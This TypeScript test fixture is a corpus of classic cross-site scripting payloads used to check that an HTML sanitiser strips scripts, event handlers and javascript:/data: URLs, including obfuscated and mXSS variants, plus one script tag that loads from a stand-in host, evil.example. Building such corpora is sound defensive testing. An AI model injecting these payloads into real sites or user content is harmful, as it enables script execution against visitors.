/**
 * Classic cross-site scripting payloads, for tests of every place that stores or shows
 * HTML written by people (notice messages first). Each entry must come out of a sanitiser
 * harmless: no script, no event handler, no active URL, no element outside the allow-list.
 * Drawn from the OWASP XSS filter evasion cheat sheet, the PortSwigger XSS cheat sheet and
 * DOMPurify's own test fixtures.
 */
export const XSS_CORPUS: readonly string[] = [
  // Script elements
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<script>alert(1)//",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<<script>alert("x");//<</script>',
  "<script/x>alert(1)</script>",
  // Event handlers
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">text',
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<b onmouseover=alert(1)>hover</b>",
  '<a href="https://example.com" onclick="alert(1)">click</a>',
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<marquee onstart=alert(1)>x</marquee>",
  // Dangerous URLs, with entity, case and whitespace tricks
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="&#14;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VbScRiPt&#58;msgbox(1)">x</a>',
  '<a href="https://example.com" target="javascript:alert(1)">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  // Embedding
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  // Styles
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<div style="width:expression(alert(1))">x</div>',
  '<b style="background-image:url(javascript:alert(1))">x</b>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  // Document-level
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  // Nesting that mutates when parsed again (mXSS)
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  // Unclosed tags, comments and CDATA
  "<img src=x onerror=alert(1)",
  '<a href="javascript:alert(1)"',
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
];
